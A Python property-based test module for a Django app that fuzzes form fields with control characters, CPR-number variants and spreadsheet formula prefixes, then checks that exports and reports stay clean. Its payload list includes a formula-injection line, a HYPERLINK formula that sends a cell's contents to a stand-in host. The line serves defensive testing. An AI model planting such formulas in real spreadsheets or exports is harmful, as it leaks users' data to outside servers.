"""The text rule, end to end (Hypothesis): every free-text field of every form is fed
control characters, CPR variants and formula prefixes; then the stored data, every
export (story CSV/XLSX, results and ballots CSV/XLSX) and the report (HTML, print, Word)
are checked: never a 500, no stored control character or CPR number, text stored in
NFC, no live formula in a spreadsheet cell.

A second property stores the same hostile text as older versions let it in (straight
into the database) and checks that every writer still copes.

Example counts: the first property uses the profile's count (ci 200, dev 25); each
stored example downloads eleven files, so the second uses a tenth of it (ci 20, dev 5).
"""

import re
import unicodedata

import pytest
from django.test import Client
from hypothesis import event, given, settings
from hypothesis import strategies as st

from aktiv import roles
from aktiv.text import CONTROL_RE, find_cpr
from domains.models import Domain
from reports.models import EditionText, ReportText
from stories.models import CollectionRound, Story
from tests.factories import cast, make_user
from tests.hardening.conftest import assert_no_server_error, rolled_back
from tests.hardening.strategies import SPECIAL
from tests.hardening.text_targets import (
    TARGETS,
    body_of,
    build_world,
    cells_of,
    downloads,
    fields_of,
    form_of,
    live_formula,
    stored_texts,
)
from workshops.models import Group, Quote, Selection

pytestmark = pytest.mark.django_db

CONTROLS = [chr(c) for c in (*range(0x01, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, 0x85, 0x9B)]
CPRS = [
    "010190-1234",
    "CPR-010190-1234",
    "010190–1234",
    "0101901234",
    "cpr nr. 010190 1234",
    "０１０１９０－１２３４",
    "311299\u22124321",
]
FORMULAS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    '=HYPERLINK("http://x?d="&C2,"Åbn")',
]
PIECES = [p for p in SPECIAL if p != "\x00"] + CONTROLS + CPRS + FORMULAS

hostile = st.lists(
    st.one_of(st.sampled_from(PIECES), st.text(max_size=5).filter(lambda t: "\x00" not in t)),
    min_size=1,
    max_size=8,
).map("".join)

WORLD_ROLES = ("staff", "facilitator", "manager", "admin")


@pytest.fixture
def world_and_clients(db):
    world = build_world()
    cast(world.workshop, world.groups[0], ["glaede", "laering"])
    users = {
        "staff": make_user(roles.STAFF),
        "facilitator": make_user(roles.FACILITATOR),
        "manager": make_user(roles.MANAGER),
        "admin": make_user(superuser=True),
    }
    clients = {}
    for role in WORLD_ROLES:
        client = Client(raise_request_exception=False)
        client.force_login(users[role])
        clients[role] = client
    return world, clients


def _plain(url, text):
    """The readable text of a download (markup removed from Word and HTML)."""
    if url.endswith((".csv", ".xlsx")):
        return text
    return re.sub(r"<[^>]+>", " ", text)


def _assert_downloads_are_safe(world, clients, *, stored_cpr_allowed=False):
    for role, url in downloads(world):
        response = clients[role].get(url)
        assert_no_server_error(response, url)
        assert response.status_code == 200, (url, response.status_code)
        cells, formula = cells_of(url, body_of(response))
        assert not live_formula(url, cells, formula), (url, [c for c in cells if c][:20])
        if not stored_cpr_allowed:
            found = [find_cpr(_plain(url, c)) for c in cells]
            assert not any(found), (url, found)


def _assert_stored_texts_are_clean():
    for where, text in stored_texts():
        assert not CONTROL_RE.search(text), (where, text)
        assert not find_cpr(text), (where, text)
        assert unicodedata.is_normalized("NFC", text), (where, text)


@given(data=st.data())
def test_any_text_in_any_field_is_refused_or_stored_clean_and_every_file_stays_safe(
    world_and_clients, data
):
    world, clients = world_and_clients
    target = data.draw(st.sampled_from(TARGETS), "form")
    with rolled_back():
        post = target.valid(world)
        names = fields_of(target, world)
        for name in data.draw(st.sets(st.sampled_from(names), min_size=1), "fields"):
            post[name] = data.draw(hostile, name)
        response = clients[target.role].post(target.url(world), post)
        assert_no_server_error(response, target.name)
        event(f"{target.name}: {response.status_code}")
        if response.status_code == 200:
            form = form_of(response)
            assert form is not None and form.errors, target.name
        else:
            assert response.status_code == 302, (target.name, response.status_code)
            _assert_downloads_are_safe(world, clients)
        _assert_stored_texts_are_clean()


def _store_legacy_text(world, texts):
    """Put hostile text everywhere a person types, as older versions let it in."""
    title, text, significance, name, quote, reason = texts
    world.story.title, world.story.text, world.story.significance = title or "x", text, significance
    world.story.save()
    Story.objects.filter(pk=world.story.pk).update(consent_report_on=world.story.collected_on)
    CollectionRound.objects.create(name=name[:100] or "r")
    Domain.objects.filter(slug="glaede").update(
        statement=name[:300], what_changes=text, what_creates_change=quote
    )
    ReportText.objects.filter(key="preface").update(title=title[:200], body=significance)
    EditionText.objects.filter(key="preface").update(title=title[:200], body=significance)
    world.workshop.title = title[:200]
    world.workshop.save()
    Group.objects.filter(pk=world.groups[0].pk).update(name=name[:60])
    Quote.objects.create(
        workshop=world.workshop, domain=world.domain, kind="why", text=quote, group=world.groups[0]
    )
    Selection.objects.create(
        workshop=world.selecting, domain=world.domain, story=world.story, reason=reason
    )


@settings(max_examples=max(3, settings().max_examples // 10))
@given(texts=st.lists(hostile, min_size=6, max_size=6))
def test_every_writer_copes_with_any_stored_text(world_and_clients, texts):
    world, clients = world_and_clients
    with rolled_back():
        _store_legacy_text(world, texts)
        _assert_downloads_are_safe(world, clients, stored_cpr_allowed=True)
